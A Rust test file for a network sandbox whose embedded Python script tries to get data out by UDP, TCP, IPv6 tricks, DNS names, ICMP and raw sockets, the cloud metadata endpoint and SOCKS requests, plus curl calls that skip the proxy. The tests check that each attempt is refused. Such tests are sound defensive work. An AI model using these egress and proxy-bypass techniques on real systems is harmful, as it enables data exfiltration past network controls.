//! Without the proxy nothing gets out: no route, no resolver, whatever kind of socket.

use super::stage::{PUBLIC, Stage};

const TRIES: &str = r#"
import ctypes, errno, socket, struct, sys

def tried(name, what):
    try:
        print(name, "got", what())
    except Exception as error:
        print(name, "refused", type(error).__name__)

def udp(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stream:
        stream.settimeout(1)
        stream.sendto(b"secret-over-udp", (address, port))
        return stream.recv(100)

def tcp(family, address, port):
    with socket.socket(family, socket.SOCK_STREAM) as stream:
        stream.settimeout(2)
        stream.connect((address, port))
        return stream.recv(100)

def ping(kind):
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as stream:
        stream.settimeout(1)
        stream.sendto(struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"secret-over-icmp", ("93.184.215.14", 0))
        return stream.recv(100)

tried("udp", lambda: udp("93.184.215.14", 53))
tried("udp to a resolver here", lambda: udp("127.0.0.53", 53))
tried("tcp", lambda: tcp(socket.AF_INET, "93.184.215.14", 22))
tried("tcp by a mapped address", lambda: tcp(socket.AF_INET6, "::ffff:93.184.215.14", 22))
tried("ipv6", lambda: tcp(socket.AF_INET6, "2606:2800:21f:cb07:6820:80da:af6b:8b2c", 80))
tried("metadata", lambda: tcp(socket.AF_INET, "169.254.169.254", 80))
tried("dns", lambda: socket.getaddrinfo("secret.allowed.test", 80))
tried("icmp", lambda: ping(socket.SOCK_DGRAM))
tried("raw", lambda: ping(socket.SOCK_RAW))
tried("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
tried("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
tried("mptcp", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262))
tried("fast open", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).sendto(b"secret-by-fast-open", 0x20000000, ("93.184.215.14", 22)))
tried("udp through the proxy", lambda: udp_through())
"#;

const SOCKS_UDP: &str = r#"
def udp_through():
    with socket.create_connection(("127.0.0.1", 3128), 5) as stream:
        stream.sendall(b"\x05\x01\x00")
        stream.recv(2)
        stream.sendall(b"\x05\x03\x00\x01\x00\x00\x00\x00\x00\x00")
        reply = stream.recv(10)
        if reply[1] != 0:
            raise OSError("no association")
        return reply

def bind_through():
    with socket.create_connection(("127.0.0.1", 3128), 5) as stream:
        stream.sendall(b"\x05\x01\x00")
        stream.recv(2)
        stream.sendall(b"\x05\x02\x00\x01\x5d\xb8\xd7\x0e\x00\x50")
        reply = stream.recv(10)
        if reply[1] != 0:
            raise OSError("no binding")
        return reply
"#;

#[test]
fn no_other_socket_leads_anywhere() {
    let Some(mut stage) = Stage::new("no_other_socket_leads_anywhere") else { return };
    let ran = stage.python("allow = [\"allowed.test\"]", &format!("{SOCKS_UDP}{TRIES}\ntried('binding', bind_through)"));
    assert!(ran.noted.is_empty(), "{ran:#?}");
    assert_eq!(ran.out.lines().count(), 15, "{ran:#?}");
    assert!(ran.out.lines().all(|line| line.contains(" refused ")), "{ran:#?}");
    // The same outside of the sandbox does reach the servers: the attempts are real ones.
    let outside = stage.run(&["/usr/bin/python3", "-c", &format!("{SOCKS_UDP}{TRIES}")]);
    let at = |what: &str| outside.noted.iter().any(|note| note[what].is_string() && note["at"] == PUBLIC);
    assert!(at("udp") && at("tcp") && outside.out.contains("tcp got"), "{outside:#?}");
}

#[test]
fn programs_that_ignore_the_proxy_get_nowhere_and_a_server_of_the_calls_own_is_reached() {
    let Some(mut stage) = Stage::new("programs_that_ignore_the_proxy_get_nowhere_and_a_server_of_the_calls_own_is_reached") else { return };
    let ran = stage.sh(
        "allow = [\"allowed.test\"]",
        "curl -sS -m 5 --noproxy '*' http://allowed.test/hello; curl -sS -m 5 --noproxy '*' http://93.184.215.14/hello",
    );
    assert!(ran.noted.is_empty() && ran.code != 0, "{ran:#?}");
    let script = "cd \"$HOME\" && echo own > page && (python3 -m http.server 8000 --bind 127.0.0.1 >/dev/null 2>&1 & echo $! > pid); \
                  for i in 1 2 3 4 5 6 7 8 9; do curl -sS http://localhost:8000/page 2>/dev/null && break; sleep 0.3; done; kill $(cat pid)";
    let ran = stage.sh("allow = [\"allowed.test\"]", script);
    assert_eq!(ran.out, "own\n", "{ran:#?}");
}
